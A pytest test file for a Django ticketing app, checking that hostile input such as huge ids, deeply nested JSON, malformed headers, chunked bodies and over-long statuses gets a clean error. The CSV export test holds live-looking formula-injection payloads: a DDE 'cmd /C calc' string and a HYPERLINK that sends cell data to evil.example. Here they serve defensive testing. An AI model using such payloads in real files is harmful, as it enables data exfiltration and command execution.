"""Hostile input answers with a message (a field error, a 4xx, a CommandError), never a 500:
huge ids, JSON nested thousands deep, broken headers, chunked bodies, over-long statuses,
formulas in exported cells."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from providers.models import ProviderAccount
from tests.helpers import callback_path
from tests.providers.test_admin import ADD_URL, account_form
from tickets import bulk, services
from tickets.models import BulkJob, InboundEvent, Ticket
from tickets.pull import apply_remote_status

pytestmark = pytest.mark.django_db

DEEP = "[" * 3000 + "]" * 3000
HUGE_ID = "9" * 30


def ticket_data(account, **provider_fields) -> dict:
    data = {
        "account": account.pk,
        "title": "VPN down",
        "description": "Nobody can connect.",
        "requester_email": "ann@acme.test",
        "requester_name": "Ann",
        "priority": "high",
        "impact": "",
        "status": "new",
        "due_at": "",
        "tags": "",
    }
    return {**data, **{f"{account.kind}-{name}": value for name, value in provider_fields.items()}}


# --- ids ------------------------------------------------------------------------------------
def test_sync_states_ignores_ids_no_ticket_can_have(agent_client, account_factory):
    ticket = services.create_ticket(account=account_factory("kapture"), title="Printer jam")
    url = reverse("tickets:sync_states")
    response = agent_client.get(url, {"id": [HUGE_ID, "²", "-1", "1e3", str(ticket.pk)]})
    assert response.status_code == 200
    assert [entry["id"] for entry in response.json()["tickets"]] == [ticket.pk]


def test_the_create_form_ignores_an_account_id_no_account_can_have(agent_client, account_factory):
    account_factory("kapture")
    response = agent_client.get(reverse("tickets:create"), {"account": HUGE_ID})
    assert response.status_code == 200


def test_a_callback_for_an_account_id_past_the_column_is_not_found(client):
    response = client.post(f"/inbound/knight/{HUGE_ID}/secret/", b"{}", content_type="application/json")
    assert response.status_code == 404


# --- deep JSON in form fields -----------------------------------------------------------------
@pytest.mark.parametrize(
    ("kind", "field"),
    [
        ("knight", "account_code_locators"),
        ("motadata", "custom_fields"),
        ("kapture", "extra_keys"),
        ("keliweb", "customfields"),
        ("keliweb", "attachments"),
    ],
)
def test_json_nested_thousands_deep_in_a_provider_field_is_refused_on_the_field(
    agent_client, account_factory, kind, field
):
    account = account_factory(kind)
    response = agent_client.post(reverse("tickets:create"), ticket_data(account, **{field: DEEP}))
    assert response.status_code == 200
    assert response.context["provider_form"].errors[field] == ["The JSON nests deeper than 32 levels."]
    assert DEEP in response.content.decode()  # kept as typed, to be corrected
    assert not Ticket.objects.exists()


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ('{"1": NaN}', "NaN is not a number JSON allows"),
        ('{"1": 1e999}', "Numbers must be finite"),
        ('{"1": ' + "9" * 5000 + "}", "a value is too large"),
        ('{"1": "\\u0000"}', "NUL"),
    ],
)
def test_json_values_no_database_can_store_are_refused_on_the_field(
    agent_client, account_factory, value, message
):
    account = account_factory("kapture")
    response = agent_client.post(reverse("tickets:create"), ticket_data(account, extra_keys=value))
    assert response.status_code == 200
    assert message in response.context["provider_form"].errors["extra_keys"][0]


def test_deep_json_in_account_settings_is_refused_on_the_field(superuser_client, sandbox):
    response = superuser_client.post(ADD_URL, account_form(sandbox, settings=DEEP))
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["settings"] == ["The JSON nests deeper than 32 levels."]
    assert not ProviderAccount.objects.exists()


def test_deep_json_in_a_settings_table_cell_is_refused_and_kept(superuser_client, sandbox):
    data = account_form(
        sandbox,
        settings__tables="1",
        settings__all__rows="2",
        settings__all__key__0="deep",
        settings__all__value__0=DEEP,
        settings__all__key__1="queue",
        settings__all__value__1="support",
    )
    del data["settings"]
    response = superuser_client.post(ADD_URL, data)
    assert response.status_code == 200
    [error] = response.context["adminform"].form.errors["settings"]
    assert error == "'deep': The JSON nests deeper than 32 levels. Enter it again."
    html = response.content.decode()
    assert DEEP in html and 'value="support"' in html  # every row kept
    assert not ProviderAccount.objects.exists()


def test_a_forged_row_count_does_not_make_the_table_loop(superuser_client, sandbox):
    data = account_form(sandbox, settings__tables="1", settings__all__rows="9" * 40)
    del data["settings"]
    response = superuser_client.post(ADD_URL, data)
    assert response.status_code == 302
    assert ProviderAccount.objects.get().settings == {}


# --- import_accounts ----------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("accounts.json", b'\xff\xfe{"accounts": []}', "accounts.json is not UTF-8 text (byte 0"),
        ("accounts.json", b"[" * 100_000 + b"]" * 100_000, "accounts.json nests deeper than 32 levels."),
        ("accounts.yaml", b"accounts: " + b"[" * 100_000 + b"]" * 100_000, "nests deeper than 32 levels."),
        ("accounts.yaml", b"accounts:\n" + b"".join(b"  " * i + b"- \n" for i in range(1, 1200)), "nests"),
        ("accounts.json", b'{"accounts": [{"name": "K", "rate_limit": NaN}]}', "NaN is not a number"),
        ("accounts.yaml", b"accounts:\n  - name: K\n    rate_limit: .nan\n", "Numbers must be finite"),
    ],
)
def test_import_accounts_explains_a_file_it_cannot_read(tmp_path, name, content, message):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(CommandError) as refused:
        call_command("import_accounts", str(path))
    assert message in str(refused.value)
    assert "Nothing was imported" in str(refused.value)


# --- the inbound endpoint -----------------------------------------------------------------------
@pytest.fixture
def knight(account_factory):
    account = account_factory("knight")
    secret = services.ensure_callback_secret(account=account)
    account.refresh_from_db()
    return account, secret


def test_an_unreadable_content_length_is_a_400(knight, client):
    account, secret = knight
    response = client.post(
        callback_path(account, secret), b"{}", content_type="application/json", CONTENT_LENGTH="abc"
    )
    assert response.status_code == 400
    assert not InboundEvent.objects.exists()


def chunked(client, path, body: bytes, *, terminated: bool):
    """A POST without Content-Length, as a server hands a chunked body to the app: gunicorn
    decodes the chunks and says so with wsgi.input_terminated; runserver cannot."""
    extra = {"CONTENT_LENGTH": "", "HTTP_TRANSFER_ENCODING": "chunked", "wsgi.input": io.BytesIO(body)}
    if terminated:
        extra["wsgi.input_terminated"] = True
    return client.post(path, content_type="application/json", **extra)


def test_a_chunked_callback_is_read_whole(knight, client):
    account, secret = knight
    payload = {"ticketId": "TC-404", "status": "CLOSE", "note": "x" * 70_000}
    body = json.dumps(payload).encode()
    with pytest.MonkeyPatch.context() as patch:
        from django.conf import settings

        patch.setattr(settings, "INBOUND_MAX_BYTES", 128 * 1024)
        response = chunked(client, callback_path(account, secret), body, terminated=True)
    assert response.status_code == 200, response.content
    assert InboundEvent.objects.get().payload == payload


def test_a_chunked_callback_too_large_or_unreadable_is_refused(knight, client, settings):
    account, secret = knight
    settings.INBOUND_MAX_BYTES = 1024
    path = callback_path(account, secret)
    assert chunked(client, path, b"{" + b" " * 5000 + b"}", terminated=True).status_code == 413
    assert chunked(client, path, b"{}", terminated=False).status_code == 411
    assert not InboundEvent.objects.exists()


def test_an_over_long_status_is_stored_with_the_event_not_in_the_ticket(knight, client):
    account, secret = knight
    ticket = Ticket.objects.create(
        account=account,
        title="Disk full",
        remote_id="K-1",
        revision=1,
        synced_revision=1,
        sync_state="synced",
        remote_status="OPEN",
    )
    body = json.dumps({"ticketId": ticket.reference, "status": "S" * 5000})
    response = client.post(callback_path(account, secret), body, content_type="application/json")
    assert response.status_code == 200 and response.json()["applied"] is False
    event = InboundEvent.objects.get()
    assert event.note == "Status of 5,000 characters (at most 100): stored, not applied."
    ticket.refresh_from_db()
    assert ticket.remote_status == "OPEN"
    assert apply_remote_status(ticket_id=ticket.pk, remote_status="S" * 101) == "refused"


def test_a_non_utf8_or_nul_callback_is_stored_readably(knight, client):
    account, secret = knight
    path = callback_path(account, secret)
    for body in (b"\xff\xfe\x00garbage", b'{"ticketId": "TC-1\\u0000"}'):
        assert client.post(path, body, content_type="application/json").status_code == 200
    notes = sorted(InboundEvent.objects.values_list("note", flat=True))
    assert notes == [
        "Not usable JSON (Text may not contain NUL (\\u0000) characters.): stored, not applied.",
        "Not usable JSON (The text is not UTF-8.): stored, not applied.",
    ]
    assert all("\x00" not in json.dumps(e.payload) for e in InboundEvent.objects.all())


# --- CSV export ---------------------------------------------------------------------------------
def test_exported_cells_that_a_spreadsheet_would_run_are_neutralised(account_factory, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    account = account_factory("kapture", name="=cmd|' /C calc'!A0")
    titles = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "@SUM(A1:A9)",
        "+1+1",
        "-2+3",
        "\tTabbed",
        "\rReturn",
        "Plain title",
        "a=b stays",
    ]
    tickets = [Ticket.objects.create(account=account, title=title, revision=1) for title in titles]
    job = BulkJob.objects.create(action="export_csv", selection={"ids": [t.pk for t in tickets]})
    bulk.export_chunk(job, [t.pk for t in tickets])
    name = bulk.finish_export(job)
    rows = list(csv.reader(io.StringIO((tmp_path / name).read_bytes().decode(), newline="")))[1:]
    assert [row[1] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "'@SUM(A1:A9)",
        "'+1+1",
        "'-2+3",
        "'\tTabbed",
        "'\rReturn",
        "Plain title",
        "a=b stays",
    ]
    assert {row[2] for row in rows} == {"'=cmd|' /C calc'!A0"}


def test_deep_json_in_the_admin_ticket_form_is_refused_on_the_field(superuser_client, account_factory):
    from tickets.forms import TicketForm

    account = account_factory("knight")
    form = TicketForm(
        data={
            "account": account.pk,
            "title": "VPN down",
            "priority": "medium",
            "status": "new",
            "tags": "[]",
            "extra": DEEP,
        }
    )
    assert form.errors["extra"] == ["The JSON nests deeper than 32 levels."]
    data = {
        "account": account.pk,
        "title": "VPN down",
        "priority": "medium",
        "status": "new",
        "tags": "[]",
        "extra__account_code_locators": DEEP,
    }
    response = superuser_client.post(reverse("admin:tickets_ticket_add"), data)
    assert response.status_code == 200
    assert "The JSON nests deeper than 32 levels." in response.content.decode()
    assert not Ticket.objects.exists()


def test_a_provider_answer_nested_too_deep_is_recorded_as_text_not_a_crash():
    from providers.http import ApiResponse, Redactor

    deep = '{"token": "abcd1234", "a": ' + "[" * 100_000 + "]" * 100_000 + "}"
    assert ApiResponse(200, {}, deep).json() is None
    recorded = Redactor({"abcd1234"}).body(deep)
    assert "abcd1234" not in recorded and recorded.startswith('{"token": "[redacted]"')
